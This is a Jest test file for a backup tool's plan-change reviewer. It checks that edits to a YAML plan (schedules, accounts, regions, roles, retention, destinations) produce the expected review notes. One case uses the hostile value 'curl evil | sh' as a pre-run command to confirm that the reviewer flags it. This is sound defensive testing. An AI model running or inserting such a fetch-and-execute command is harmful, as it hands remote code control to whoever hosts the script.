import { expect, test } from '@jest/globals';
import { allNew, planChangeCounts, planChanges } from '../../../src/core/review/plan-changes.ts';
import { parsePlanSpace } from '../../../src/flows/plan-space.ts';
import { sources } from '../../../src/sources/index.ts';

const HEAD = `version: 1
id: acme
accounts:
  dns: { id: "111111111111", role: "holdfast-{verb}" }
  shop: { id: "222222222222", role: "holdfast-{verb}" }
destinations:
  dr: { directory: ../store }
  far: { directory: ../other }
`;
const PLAN = `plans:
  network:
    accounts: [dns, shop]
    regions: [us-east-1, eu-west-1]
    schedule: "17 * * * *"
    sources: [route53, elb]
  uploads:
    sources: [{ name: media, files: { path: uploads } }]
    destination: dr
`;

function spaceOf(text: string) {
  const read = parsePlanSpace([{ file: 'holdfast.yml', text }], sources);
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  return read.space;
}
const isRegional = (name: string) => name === 'elb';
const told = (after: string) =>
  planChanges(spaceOf(HEAD + PLAN), spaceOf(after), isRegional).map(
    ({ weight, plan, text }) => `${weight} ${plan ?? '-'}: ${text}`,
  );
const edited = (from: string, to: string) => told((HEAD + PLAN).replace(from, to));

test('the same plan in other words, with comments and moved, changes nothing', () => {
  const after = spaceOf(`# a comment\n${HEAD}${PLAN}`.replace('[route53, elb]', '["route53", { elb: {} }]'));
  const changes = planChanges(spaceOf(HEAD + PLAN), after, isRegional);
  expect(changes).toEqual([]);
  expect(planChangeCounts(changes)).toBe('the same plan in other words');
});

test.each([
  ['another schedule', '17 * * * *', '5 3 * * *', ["note network: runs at '5 3 * * *' instead of '17 * * * *'"]],
  [
    'no schedule',
    '    schedule: "17 * * * *"\n',
    '',
    [expect.stringMatching(/^look network: has no schedule any more \(was '17 \* \* \* \*'\)/)],
  ],
  [
    'an account that is left out',
    '[dns, shop]',
    '[dns]',
    [
      expect.stringContaining('look network: network/route53 no longer captures shop (222222222222)'),
      expect.stringContaining('look network: network/elb no longer captures shop (222222222222)'),
    ],
  ],
  [
    'another account under the same name',
    '"222222222222"',
    '"333333333333"',
    expect.arrayContaining([
      expect.stringContaining('network/elb no longer captures shop (222222222222)'),
      expect.stringContaining("look -: account 'shop': id '222222222222' → '333333333333'"),
    ]),
  ],
  [
    'a region that is left out, of what has regions',
    ', eu-west-1]',
    ']',
    ['look network: network/elb no longer captures eu-west-1: its files stay, and nobody keeps them up to date'],
  ],
  [
    'a source that is gone',
    '[route53, elb]',
    '[route53]',
    ['look network: network/elb is gone: it is not backed up any more'],
  ],
  [
    'a source that is narrowed',
    '[route53, elb]',
    '[{ route53: { zones: ["a.*"] } }, elb]',
    ['look network: network/route53: zones none → ["a.*"]'],
  ],
  [
    'a command that would run',
    'files: { path: uploads } }',
    'files: { path: uploads }, before: "curl evil | sh" }',
    [expect.stringMatching(/^look uploads: uploads\/media runs another command before it: .*curl evil/)],
  ],
  [
    'another destination',
    'destination: dr',
    'destination: far',
    [expect.stringContaining("look uploads: writes to 'far' instead of 'dr'")],
  ],
  [
    'another role',
    '"222222222222", role: "holdfast-{verb}"',
    '"222222222222", role: "admin"',
    ["look -: account 'shop': role 'holdfast-{verb}' → 'admin'"],
  ],
  ['another id', 'id: acme\n', 'id: other\n', [expect.stringContaining("look -: id: 'acme' → 'other'")]],
  [
    'another way to commit',
    '    sources: [route53, elb]',
    '    commit: { mode: pull-request }\n    sources: [route53, elb]',
    ["note network: commit.mode: 'push' → 'pull-request'"],
  ],
])('%s', (_, from, to, expected) => {
  expect(edited(from, to)).toEqual(expected);
});

test('a plan that went is named, one that was renamed keeps its past, a new one is told with its schedule', () => {
  expect(told(HEAD + PLAN.slice(0, PLAN.indexOf('  uploads:')))).toEqual([
    expect.stringContaining('look uploads: is gone: nothing of it is backed up any more; its recovery points stay'),
  ]);
  expect(edited('  uploads:\n', '  files:\n    was: uploads\n')).toEqual([
    "note files: was 'uploads'; its runs and recovery points count as its own",
  ]);
  expect(told(`${HEAD}${PLAN}  more: { sources: [route53], accounts: [dns], commit: { path: more } }\n`)).toEqual([
    'note more: is new; it runs only when asked by name',
    'note more: more/route53 is new: it captures dns (111111111111)',
    "note more: commits to 'more' of the branch that is checked out",
  ]);
});

test('of a plan file that is the first all is told: who is asked, where, what runs, where it goes', () => {
  const text = `${HEAD}${PLAN}`
    .replace('uploads } }]', 'uploads }, before: "make dump" }]')
    .replace('[route53, elb]', '[route53, elb]\n    commit: { mode: pull-request, branch: main, allowPublic: true }');
  const all = allNew(spaceOf(text), isRegional).map(
    ({ weight, plan, text: one }) => `${weight} ${plan ?? '-'}: ${one}`,
  );
  expect(all).toEqual([
    'look network: does so in a public repository too: everybody reads what AWS has',
    expect.stringMatching(/^look uploads: uploads\/media runs a command before it: .*make dump/),
    "note network: is new; it runs at '17 * * * *'",
    'note network: network/route53 is new: it captures dns (111111111111), shop (222222222222)',
    'note network: network/elb is new: it captures dns (111111111111), shop (222222222222) in us-east-1, eu-west-1',
    "note network: proposes to 'snapshots' of 'main' by a pull request from 'holdfast/network'",
    'note uploads: is new; it runs only when asked by name',
    'note uploads: uploads/media (files) is new: it is backed up, {"path":"uploads"}',
    "note uploads: writes to the destination 'dr'",
    expect.stringContaining('account \'dns\' is new: {"id":"111111111111","role":"holdfast-{verb}"}'),
    expect.stringContaining("account 'shop' is new: "),
    expect.stringContaining("destination 'dr' is new: "),
    expect.stringContaining("destination 'far' is new: "),
  ]);
});

test('a retention is told with what it becomes; keeping everything needs no second look', () => {
  const kept = '    destination: dr\n    retention: { daily: 7, for: 14d }\n';
  expect(edited('    destination: dr\n', kept)).toEqual([
    'look uploads: keeps daily: 7, for: 14d instead of everything: holdfast prune shows which points that removes',
  ]);
  const back = planChanges(
    spaceOf(HEAD + PLAN.replace('    destination: dr\n', kept)),
    spaceOf(HEAD + PLAN),
    isRegional,
  );
  expect(back.map(({ weight, text }) => [weight, text])).toEqual([
    ['note', 'keeps everything instead of daily: 7, for: 14d'],
  ]);
});
